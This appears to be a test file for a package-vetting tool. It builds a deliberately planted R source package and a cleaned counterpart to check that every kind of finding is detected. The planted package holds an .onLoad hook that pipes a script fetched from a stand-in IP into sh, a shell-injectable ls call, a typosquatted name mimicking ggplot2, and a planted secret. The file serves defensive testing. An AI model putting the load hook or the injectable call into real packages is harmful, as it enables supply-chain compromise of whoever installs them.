/** One R source package with one harmless example of every kind of finding, through the whole vetting; and the same cleaned. */
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe } from 'vitest';
import { cran } from '../../src/ecosystems/cran/index.ts';
import { dataFrame } from '../../src/ecosystems/cran/rds.ts';
import { writeRds } from '../../src/ecosystems/cran/rds-write.ts';
import { createVetting, type Vetting } from '../../src/features/vetting/index.ts';
import {
  type MadeSourcePackage,
  makeSourcePackage,
  repositoryAnswer,
} from '../../src/main/demo/made-here-source-packages.ts';
import { rModule } from '../corpora/code.ts';
import { secretSamples } from '../corpora/secrets.ts';
import { type OtherUpstream, openOtherUpstream } from '../harness/other-upstream.ts';
import { openVettingBench, type VettingBench } from '../harness/vetting.ts';
import { itTellsEveryKind, MARKER, plantedLists, plantedWorld, REPOSITORY, unreadable } from './planted.ts';

const PLANTED = { name: 'ggpolt2', version: '1.0.0' };
const CLEANED = { name: 'sailboat', version: '1.0.0' };

/** Stands in another package, which is vetted before. */
const COPIED = rModule(77, 30);
const DONOR = makeSourcePackage({ name: 'donor', version: '1.0.0', files: { 'R/core.R': COPIED } });
/** The version that was cleared before the planted one. */
const BEFORE = makeSourcePackage({ name: PLANTED.name, version: '0.9.0' });

function planted(): MadeSourcePackage {
  const [secret] = secretSamples();
  return makeSourcePackage({
    ...PLANTED,
    fields: {
      ...{ License: 'What the author says', Maintainer: 'ORPHANED', URL: REPOSITORY },
      SystemRequirements: 'libmadeup (>= 2.0)',
    },
    // The repository says less than DESCRIPTION: R resolves by the one and installs the other.
    listed: { NeedsCompilation: 'yes' },
    files: {
      'R/load.R': '.onLoad <- function(...) system("curl -s http://192.0.2.7/x.sh | sh")\n',
      'R/weak.R': 'run <- function(name) system(paste("ls", name))\n',
      'R/mark.R': `mark <- "${MARKER}"\n`,
      [`R/${secret?.path.split('/').at(-1) ?? 'secret.R'}`]: secret?.text ?? '',
      'R/copied.R': COPIED,
      // It is there while R installs it, and not afterwards.
      'R/hook.R':
        '.onAttach <- function(...) if (Sys.getenv("R_PACKAGE_NAME") == "")\n  stop("libmadeup.so.2: cannot open shared object file")\n',
      'tests/it.R': 'stop("made to fail")\n',
      'inst/extdata/data.bin': unreadable(),
      'inst/tinytest/test_it.R': 'expect_equal(1 + 1, 2)\n',
    },
  });
}

const SOURCE = { 'R/sail.R': 'sail <- function(wind) wind * 2\n', 'tests/sail.R': 'stopifnot(TRUE)\n' };

function cleaned(): MadeSourcePackage {
  return makeSourcePackage({
    ...CLEANED,
    fields: {
      ...{ Title: 'Sails Boats', Description: 'Sails boats.', License: 'MIT + file LICENSE' },
      ...{ Author: 'Ann Sail [aut, cre], Bo Mast [aut]', Maintainer: 'Ann Sail <ann@sailboat.example>' },
      URL: `https://sailboat.example/, ${REPOSITORY}`,
    },
    files: { ...SOURCE, LICENSE: 'YEAR: 2025\nCOPYRIGHT HOLDER: Ann Sail\n' },
  });
}

/** `Meta/current.rds`: when the files of the index appeared. */
function datesOf(packages: readonly { readonly made: MadeSourcePackage; readonly at: string }[]): Uint8Array {
  const times = packages.map(({ at }) => Date.parse(at) / 1000);
  const frame = dataFrame(
    packages.map(({ made }) => made.filename),
    [
      ['size', { kind: 'doubles', values: packages.map(({ made }) => made.bytes.byteLength) }],
      ['mtime', { kind: 'doubles', values: times }],
    ],
  );
  return gzipSync(writeRds(frame));
}

describe('the planted source package', () => {
  let bench: VettingBench;
  let upstream: OtherUpstream;
  let vetting: Vetting;
  let isTried: boolean;
  const listed = new Map<string, { readonly made: MadeSourcePackage; readonly at: string }>();

  beforeAll(async () => {
    bench = await openVettingBench();
    isTried =
      (await bench.deps.cage.isolation()).isolated && !('unavailable' in (await bench.deps.trialMachine('cran')));
    upstream = await openOtherUpstream(bench, cran, (question) => {
      const current = [...listed.values()];
      if (question.path === '/src/contrib/Meta/current.rds')
        return { status: 200, headers: { 'content-type': 'application/gzip' }, body: datesOf(current) };
      return repositoryAnswer({ current: current.map(({ made }) => made) }, question);
    });
    Object.assign(bench.world, plantedWorld('cran', PLANTED.name, SOURCE));
    const early = createVetting(upstream.deps);
    const before = await vet(early, BEFORE, '2015-05-01T00:00:00Z');
    await vet(early, DONOR, '2015-06-01T00:00:00Z');
    bench.world.policy = { ...bench.world.policy, installProof: isTried ? 'root' : 'off' };
    vetting = createVetting({
      ...upstream.deps,
      ...plantedLists(BEFORE, before, { lookedLike: 'ggplot2', cleaned: CLEANED.name }),
    });
  });
  afterAll(async () => {
    await upstream.close();
    await bench.close();
  });

  function vet(room: Vetting, made: MadeSourcePackage, at: string) {
    const { name, version } = made;
    listed.set(name, { made, at });
    // One index holds all packages, and is believed for a while.
    bench.database.clock.advance(3600);
    return room.vet({ channel: 'tier3', ecosystem: 'cran', name, extras: [], version });
  }

  itTellsEveryKind({
    ecosystem: 'cran',
    packages: 'R packages',
    trials: { isMade: () => isTried, need: 'needs bubblewrap, and R' },
    planted: () => vet(vetting, planted(), '2015-06-01T00:00:00Z'),
    cleaned: () => vet(vetting, cleaned(), '2025-07-01T00:00:00Z'),
  });
});
